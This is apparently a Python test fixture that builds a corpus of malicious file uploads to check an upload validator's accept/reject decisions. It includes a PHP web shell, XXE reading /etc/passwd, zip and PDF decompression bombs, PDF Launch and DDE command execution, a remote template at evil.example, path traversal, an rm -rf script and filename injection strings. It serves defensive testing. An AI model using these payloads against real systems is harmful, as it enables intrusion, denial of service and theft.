"""The 80 files of the upload corpus with the decision on each, built in memory.

The antivirus test string is put together at run time, so that no scanner takes this file for one.
"""

import gzip
import io
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from tests.unit.documents import made

LIMIT = 1024 * 1024
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
EXE = b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 57
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
PHP = b"<?php system($_GET['c']); ?>"
XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'
MACRO_DOCX = "application/vnd.ms-word.document.macroEnabled.main+xml"
MACRO_XLSX = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
ACCEPTED = "accepted"


@dataclass(frozen=True)
class Sample:
    """One upload and the decision on it: the rule that refuses it, or `accepted`."""

    group: str
    what: str
    name: str
    content: bytes
    decision: str


def eicar() -> bytes:
    return (
        r"X5O!P%@AP[4\PZX54(P^)7CC)7}" + "$EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!$H+H*"
    ).encode()


def corpus() -> list[Sample]:
    groups = {
        "wrong type": _wrong_types(),
        "polyglot": _polyglots(),
        "active Office": _active_office(),
        "bombs and structure": _bombs(),
        "active PDF": _active_pdfs(),
        "EICAR": _eicars(),
        "web and container types": _web_types(),
        "names": _names(),
        "size": [
            ("empty", "plan.pdf", b"", "empty"),
            ("over the limit", "plan.txt", b"a" * (LIMIT + 1), "large"),
        ],
    }
    return [Sample(group, *row) for group, rows in groups.items() for row in rows]


Rows = Iterator[tuple[str, str, bytes, str]]


def _wrong_types() -> Rows:
    yield "exe as pdf", "plan.pdf", EXE, "content"
    yield "html as pdf", "plan.pdf", HTML, "content"
    yield "svg as png", "chart.png", SVG, "content"
    yield "html as png", "chart.png", HTML, "content"
    yield "elf as png", "chart.png", ELF, "content"
    yield "php as jpg", "photo.jpg", PHP, "content"
    yield "zip as docx", "plan.docx", made.a_zip({"a.txt": "a"}), "content"
    yield "zip holding exe as docx", "plan.docx", made.a_zip({"a.exe": EXE}), "content"
    yield "OLE as docx", "plan.docx", OLE, "locked"
    yield "pdf as docx", "plan.docx", made.a_pdf(), "content"
    yield "text as xlsx", "data.xlsx", b"a,b\n1,2\n", "content"
    yield "shell as csv", "data.csv", b"#!/bin/sh\nrm -rf /\n", ACCEPTED
    yield "html as txt", "notes.txt", HTML, "markup"
    yield "UTF-7 html as txt", "notes.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", ACCEPTED


def _polyglots() -> Rows:
    yield "pdf and html", "plan.pdf", made.a_pdf(head=b"%" + HTML + b"\n"), "hidden"
    yield "pdf and zip", "plan.pdf", made.a_pdf() + made.a_zip({"a.txt": "a"}), "hidden"
    yield "docx with a pdf behind it", "plan.docx", made.a_docx() + made.a_pdf(), "hidden"
    yield (
        "png with html",
        "chart.png",
        made.a_png(2, 2, made.png_chunk(b"tEXt", b"a\x00" + HTML)),
        "hidden",
    )
    yield "gif and js", "chart.gif", b"GIF89a/*\x00\x00*/=1;alert(1)", "kind"
    yield "jpg with php", "photo.jpg", made.a_jpeg(PHP), "hidden"
    yield "html before a pdf", "plan.pdf", HTML.ljust(900) + made.a_pdf(), "content"


def _active_office() -> Rows:
    macro = {"word/vbaProject.bin": OLE}
    types = made.content_types("word/document.xml", MACRO_DOCX)
    docm = made.a_zip({**made.docx_members(), **macro, "[Content_Types].xml": types})
    yield "docm", "plan.docm", docm, "kind"
    yield "docm renamed", "plan.docx", docm, "active"
    types = made.content_types("xl/workbook.xml", MACRO_XLSX)
    yield "xlsm renamed", "data.xlsx", made.an_xlsx(**{"[Content_Types].xml": types}), "macros"
    dde = f'<externalLink xmlns="{made.S}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    yield (
        "DDE link",
        "data.xlsx",
        made.an_xlsx(**{"xl/externalLinks/externalLink1.xml": dde}),
        "active",
    )
    template = made.relationships(("attachedTemplate", "http://evil.example/t.dotm", "External"))
    yield (
        "remote template",
        "plan.docx",
        made.a_docx(**{"word/_rels/settings.xml.rels": template}),
        "outside",
    )
    yield (
        "embedded OLE",
        "plan.docx",
        made.a_docx(**{"word/embeddings/oleObject1.bin": OLE}),
        "active",
    )
    yield "ActiveX", "plan.docx", made.a_docx(**{"word/activeX/activeX1.xml": "<a/>"}), "active"
    yield "legacy xls", "data.xls", OLE, "kind"
    yield "rtf with an object", "plan.rtf", rb"{\rtf1{\object\objautlink\objupdate}}", "kind"


def _bombs() -> Rows:
    zeros = bytes(20 * 1024 * 1024)
    yield "20 MB of zeros", "plan.docx", made.a_docx(**{"word/media/image1.png": zeros}), "bomb"
    yield (
        "zip in zip",
        "plan.docx",
        made.a_docx(**{"word/a.zip": made.a_zip({"a": "a"})}),
        "embedded",
    )
    many = {f"word/media/{i}.png": b"" for i in range(10_000)}
    yield "10,000 members", "plan.docx", made.a_docx(**many), "bomb"
    yield "XXE in docx", "plan.docx", made.a_docx(**{"word/document.xml": XXE}), "entities"
    yield (
        "billion laughs",
        "data.xlsx",
        made.an_xlsx(**{"xl/sharedStrings.xml": LAUGHS}),
        "entities",
    )
    yield "XXE in svg", "chart.svg", XXE.encode(), "kind"
    yield "65,535 x 65,535 png", "chart.png", made.a_png(65_535, 65_535), "size"
    yield "gzip bomb", "data.csv", gzip.compress(zeros), "content"
    nested = zlib.compress(zlib.compress(bytes(150 * 1024 * 1024), 9), 9)
    bomb = (
        b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>\nstream\n" % len(nested)
        + nested
        + b"\nendstream"
    )
    yield "pdf flate bomb", "plan.pdf", made.a_pdf(bomb), "bomb"
    yield "member that climbs", "plan.docx", made.a_docx(**{"../../etc/cron.xml": "<a/>"}), "names"
    yield "member from the root", "plan.docx", made.a_docx(**{"/etc/cron.xml": "<a/>"}), "names"
    yield "encryption flag", "plan.docx", _with_encryption_flag(made.a_docx()), "locked"


def _with_encryption_flag(docx: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(docx)) as archive:
        directory = archive.start_dir
    changed = bytearray(docx)
    changed[directory + 8] |= 1
    return bytes(changed)


def _active_pdfs() -> Rows:
    script = b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"
    yield "JavaScript", "plan.pdf", made.a_pdf(catalog=script), "active"
    yield "Launch", "plan.pdf", made.a_pdf(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "active"
    embedded = b"/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>"
    yield "embedded file", "plan.pdf", made.a_pdf(b"<</F(a)>>", catalog=embedded), "active"
    yield (
        "escaped JavaScript",
        "plan.pdf",
        made.a_pdf(catalog=b"/OpenAction<</S/J#61vaScript/JS(a)>>"),
        "active",
    )
    yield (
        "encrypted",
        "plan.pdf",
        made.a_pdf(b"<</Filter/Standard>>", trailer=b"/Encrypt 4 0 R"),
        "locked",
    )
    yield "truncated", "plan.pdf", made.a_pdf()[:-30], "damaged"
    link = b"/Annots[<</Subtype/Link/A<</S/URI/URI(file:///etc/passwd)>>>>]"
    yield "file: link", "plan.pdf", made.a_pdf(page=link), "link"


def _eicars() -> Rows:
    yield "as com", "test.com", eicar(), "kind"
    yield "as txt", "test.txt", eicar(), "virus"
    yield "inside docx", "plan.docx", made.a_docx(**{"word/eicar.com": eicar()}), "embedded"
    yield "after a pdf", "plan.pdf", made.a_pdf() + eicar(), "hidden"


def _web_types() -> Rows:
    yield "svg with a script", "chart.svg", SVG, "kind"
    yield "html", "page.html", HTML, "kind"
    yield "shtml", "page.shtml", b'<!--#exec cmd="ls" -->', "kind"
    yield "js", "page.js", b"alert(1)", "kind"
    yield "hta", "page.hta", b"<hta:application/>", "kind"
    yield "lnk", "plan.lnk", b"L\x00\x00\x00\x01\x14\x02\x00", "kind"
    yield "iso", "plan.iso", bytes(32_769) + b"CD001", "kind"
    yield "mht", "page.mht", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + HTML, "kind"
    yield "xml with a stylesheet", "page.xml", b'<?xml-stylesheet href="a.xsl"?><a/>', "kind"
    yield "no extension", "plan", made.a_pdf(), "kind"


def _names() -> Rows:
    pdf = made.a_pdf()
    yield "climbs", "../../etc/plan.pdf", pdf, ACCEPTED
    yield "climbs in Windows", "..\\..\\windows\\plan.pdf", pdf, ACCEPTED
    yield "absolute", "/etc/plan.pdf", pdf, ACCEPTED
    yield "NUL", "plan\x00.pdf", pdf, ACCEPTED
    yield "line break", "plan\r\nX-Header: 1.pdf", pdf, ACCEPTED
    yield "right-to-left, a pdf", "plan\u202etxt.pdf", pdf, ACCEPTED
    yield "right-to-left, a program", "plan\u202efdp.exe", pdf, "kind"
    yield "two extensions", "plan.pdf.exe", pdf, "kind"
    yield "trailing dot", "plan.pdf.", pdf, "kind"
    yield "300 characters", "a" * 296 + ".pdf", pdf, ACCEPTED
    yield "html", "<img src=x onerror=alert(1)>.pdf", pdf, ACCEPTED
    yield "formula", "=HYPERLINK(1).pdf", pdf, ACCEPTED
    yield "device", "CON.pdf", pdf, ACCEPTED
    yield "quote and parameter", 'plan";filename="a.exe.pdf', pdf, ACCEPTED
    yield "server file", ".htaccess", pdf, "kind"
